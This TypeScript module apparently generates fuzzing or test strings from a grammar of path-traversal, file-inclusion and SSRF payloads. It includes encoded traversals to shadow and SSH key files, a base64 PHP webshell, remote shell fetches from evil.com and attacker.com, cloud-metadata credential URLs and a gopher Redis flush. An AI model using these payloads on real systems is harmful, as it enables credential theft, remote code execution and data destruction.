import { basics, createExpander, type Grammar } from "../grammar.ts";

/** Path traversal, inclusion of local and remote files, requests forged through the server. */
const grammar: Grammar = {
  ...basics,
  traversal:
    "‹ups›‹target›\n‹ups›‹target›\n‹ups›‹target›\n‹ups›‹target›‹tail›\n/‹ups›‹target›\n‹word›/‹ups›‹target›\n/‹word›/‹ups›‹target›‹tail›\n‹absolute›\n‹absolute›‹tail›\n‹ups›\n‹ups›‹word›\n‹ups›‹word›.‹php|txt|conf|log|bak|xml|ini|json|yml›\n‹windows›\n‹word›=‹ups›‹target›\nfile=‹ups›‹target›\n?‹word›=‹ups›‹target›\n‹word›.‹jpg|png|pdf›/‹ups›‹target›\n./‹ups›‹target›\n\\‹ups›‹target›\n‹zip›",
  up: "../\n../\n../\n../\n../\n..\\\n..\\\n....//\n..../\n....\\\\\n..%2f\n%2e%2e/\n%2e%2e%2f\n%2e%2e%2F\n..%5c\n%2e%2e%5c\n%252e%252e%252f\n..%252f\n..%255c\n%c0%ae%c0%ae/\n..%c0%af\n%c0%ae%c0%ae%c0%af\n..%c1%9c\n%uff0e%uff0e/\n..%u2215\n..;/\n.././\n..//\n../\\\n.%2e/\n%2e./\n..0x2f\n0x2e0x2e/\n..\\/\n\\..\\\n/../\n..\\\\\n%%32%65%%32%65/\n..%00/\n.../...//\n%25252e%25252e%25252f\n..∕\n．．／\n\\.\\./\n..%2f../",
  ups: (r) => {
    const up = r.pick(ups.split("\n"));
    const text = up.repeat(r.pick([1, 2, 2, 3, 3, 4, 5, 6, 7, 8, 10, 12, 16]));
    return r.chance(0.05) ? text + r.pick(ups.split("\n")) : text;
  },
  target:
    "etc/passwd\netc/passwd\netc/passwd\netc/shadow\netc/hosts\netc/hostname\netc/issue\netc/group\netc/resolv.conf\netc/ssh/sshd_config\netc/mysql/my.cnf\netc/apache2/apache2.conf\netc/nginx/nginx.conf\netc/crontab\netc/php.ini\nproc/self/environ\nproc/self/cmdline\nproc/version\nproc/self/fd/‹n›\nroot/.ssh/id_rsa\nroot/.bash_history\nhome/‹word›/.ssh/authorized_keys\nvar/log/apache2/access.log\nvar/log/auth.log\nvar/www/html/index.php\nvar/www/html/config.php\nwindows/win.ini\nwindows/system32/drivers/etc/hosts\nWindows\\win.ini\nWINNT\\win.ini\nboot.ini\nwindows/system32/cmd.exe\ninetpub/wwwroot/web.config\nWEB-INF/web.xml\nMETA-INF/MANIFEST.MF\nwp-config.php\n.env\n.git/config\n.htpasswd\n.htaccess\nconfig/database.yml\napplication.properties\nusr/local/apache/conf/httpd.conf\nopt/lampp/etc/my.cnf\nxampp/apache/logs/access.log\napp/config/parameters.yml\nflag\nflag.txt\n.aws/credentials\nid_rsa\npasswd\nwindows/repair/sam\nProgram Files/‹word›/‹word›.ini\n{FILE}\n‹word›.php\nsettings.py\ndb.sqlite3",
  tail: "%00\n%00.jpg\n%00.html\n\u0000\n?\n#\n;.html\n.jpg\n/.\n%20\n\\0\n%2500\n::$DATA\n?.png\n;index.html\n%0a\n/./././.\n.\n%23",
  absolute:
    "/etc/passwd\n/etc/shadow\n/etc/hosts\n/etc/issue\n//etc/passwd\n/./etc/passwd\n/etc/./passwd\n/etc//passwd\n/proc/self/environ\n/proc/self/maps\n/proc/version\n/var/log/apache2/access.log\n/var/log/‹word›/error.log\n/root/.ssh/id_rsa\n/home/‹word›/.bash_history\nfile:///etc/passwd\nfile://localhost/etc/passwd\nfile:/etc/shadow\nfile:///c:/windows/win.ini\n/etc/httpd/conf/httpd.conf\n/usr/local/etc/‹word›.conf\n/WEB-INF/web.xml\nWEB-INF/web.xml\n/etc/passwd%00\n/etc/apache2/sites-enabled/000-default.conf\n/var/lib/mysql/mysql/user.MYD\n/etc/crontab\n/etc/sudoers\n~/.ssh/id_rsa\n/dev/tcp/‹ip›/‹nn›\n/etc/‹word›.conf\n/.git/config\n/.env\n/.htpasswd\n/.ssh/id_dsa\n/etc/security/passwd",
  windows:
    "c:\\windows\\win.ini\nC:\\boot.ini\nc:/boot.ini\nC:/Windows/System32/drivers/etc/hosts\nC:\\inetpub\\wwwroot\\web.config\nc:\\windows\\system32\\config\\sam\nC:\\Program Files\\‹word›\\‹word›.ini\n\\\\‹ip›\\‹xx›\\‹word›\n\\\\‹word›.com\\share\nc:\\xampp\\apache\\conf\\httpd.conf\nC:/Users/Administrator/NTUser.dat\nc:/winnt/win.ini\nd:\\‹word›\\global.asa\n\\\\localhost\\c$\\windows\\win.ini\nC:\\Windows\\repair\\system\n\\windows\\win.ini\n\\\\.\\‹con|nul|pipe\\x›\n%windir%\\win.ini\n%SYSTEMROOT%\\system32\\config\\sam",
  zip: "‹ups›var/www/html/‹xx›.php\n‹ups›tmp/‹xx›.sh\n‹ups›‹ups›Windows\\Temp\\‹xx›.exe\n‹ups›home/‹word›/.bashrc\n‹ups›app/templates/‹xx›.html\n‹ups›‹word›/‹word›.php",
  inclusion: "‹wrapper›\n‹wrapper›\n‹remote›\n‹remote›\n‹remote›",
  wrapper:
    "php://filter/convert.base64-encode/resource=‹resource›\nphp://filter/read=string.rot13/resource=‹resource›\nphp://filter/zlib.deflate/convert.base64-encode/resource=‹resource›\nphp://input\nphp://stdin\nphp://fd/‹n›\nPHP://Filter/resource=‹resource›\ndata://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==\ndata://text/plain,<?php phpinfo();?>\ndata:text/plain;base64,PD9waHAgcGhwaW5mbygpOw==\ndata:,<?php system('id');?>\nexpect://‹id|ls|whoami›\nzip://‹word›.zip%23‹xx›.php\nphar://‹word›.phar/‹xx›.php\nphar://./uploads/‹word›.jpg/‹xx›\ncompress.zlib://‹resource›\nglob:///var/www/*\nogg://‹word›\nfile:///‹word›/‹word›.php\nrar://‹word›.rar#‹xx›\nssh2.exec://‹word›:‹word›@‹ip›/‹word›\nphp://filter/convert.iconv.utf8.utf7|convert.base64-decode/resource=php://temp\njar:file:///‹word›!/‹xx›",
  resource:
    "index.php\nconfig.php\n../config.php\n/etc/passwd\nwp-config.php\n‹word›.php\n‹word›\nphp://input\nindex\n../../‹word›",
  remote:
    "http://‹host›/‹xx›.txt?\nhttp://‹host›/shell.txt\nhttp://‹host›/c99.txt?\nhttp://‹host›/r57.txt??\nhttps://‹host›/‹xx›.php?cmd=id\nhttp://‹host›/‹cmd|shell|evil|backdoor|rfi|inc|x|sh›.‹txt|php|gif|jpg|inc|dat›‹rend›\nftp://‹word›:‹word›@‹host›/‹xx›.php\nftp://‹host›/shell.txt\n//‹host›/‹shell|evil|cmd›.‹txt|php›\n\\\\‹ip›\\‹share|smb›\\‹shell|cmd›.php\nhttp://‹ip›/‹xx›.‹php|txt|inc|jsp›‹rend›\nhttp://‹ip›:‹nnnn›/‹xx›.‹php|txt|inc|jsp›‹rend›\nhttp:%2f%2f‹host›%2f‹shell|cmd›.txt\nhTTp://‹host›/‹shell|evil›.txt%00\nhttps://raw.‹word›.com/‹xx›/‹xx›/master/shell.php\nhttp://‹host›/‹xx›/id.txt?\nhttp://‹host›/phpinfo.txt?&cmd=‹id|uname -a|dir›\nhttp://‹host›/‹word›.txt?&\nhttp://‹host›/?‹xx›.php%00\nhttps://‹host›/‹word›/‹word›.txt%00",
  rend: "\n?\n??\n%00\n%3f\n?&\n#\n?cmd=id\n%2500",
  host: "‹word›.com\n‹ip›\nevil.com\nattacker.com\n‹word›.‹word›.ru\n‹word›.net\nwww.‹word›.org\n‹word›.‹tk|xyz|top|info|cn|ru›\n‹ip›:‹nnnn›",
  ssrf: "http://169.254.169.254/latest/meta-data/\nhttp://169.254.169.254/latest/meta-data/iam/security-credentials/‹word›\nhttp://169.254.169.254/latest/user-data\nhttp://169.254.169.254/computeMetadata/v1/\nhttp://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\nhttp://169.254.169.254/metadata/instance?api-version=2021-02-01\nhttp://100.100.100.200/latest/meta-data/\nhttp://‹local›/‹admin›\nhttp://‹local›:‹port›/‹admin›\nhttp://2130706433/\nhttp://0x7f000001/‹admin›\nhttp://0177.0.0.1/\nhttp://127.1:‹port›\nhttp://0/\nhttp://0:‹port›/‹admin›\nhttp://[::1]:‹port›/\nhttp://[::ffff:127.0.0.1]\nhttp://127.0.0.1.nip.io/‹admin›\nhttp://‹word›.‹word›@127.0.0.1/\nhttp://‹word›.com@‹local›/\nhttp://‹local›#@‹word›.com/\nhttp://‹local›%2523@‹word›.com\ngopher://‹local›:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a\ngopher://‹local›:25/_MAIL%20FROM\ngopher://‹local›:‹port›/_‹word›\ndict://‹local›:11211/stats\ndict://‹local›:‹port›/info\nldap://‹local›:389/%0astats\nsftp://‹host›:‹nnnn›/\ntftp://‹host›:‹nn›/‹xx›\nfile://127.0.0.1/etc/passwd\nnetdoc:///etc/passwd\njar:http://‹local›!/‹xx›\nhttp://10.‹n›.‹n›.‹nn›:‹port›/‹admin›\nhttp://①②⑦.⓪.⓪.①/\nhttp://ⓛocalhost/\nhttp://localtest.me/‹admin›\nhttp://spoofed.burpcollaborator.net/\nhttp://‹xx›.oastify.com/\nhttps://‹word›.interact.sh\nhttp://kubernetes.default.svc/api/v1/\nhttp://‹local›:2375/containers/json\nhttp://‹local›:9200/_cat/indices\nhttp://‹local›:8500/v1/kv\nunix:/var/run/docker.sock\nurl:file:///etc/passwd",
  local: "127.0.0.1\n127.0.0.1\nlocalhost\nlocalhost\n0.0.0.0\n127.127.127.127\n[::]\n[::1]\n127.1\n169.254.169.254",
  port: "22\n25\n80\n443\n3306\n5432\n6379\n8080\n8000\n9200\n27017\n11211\n2375\n5000",
  admin:
    "admin\nadmin\nserver-status\nphpmyadmin\nmanager/html\n‹word›\nactuator/env\nconsole\ninternal\nadmin/delete?username=‹word›",
};
const ups = grammar.up as string;

export const pathGrammar = createExpander(grammar);
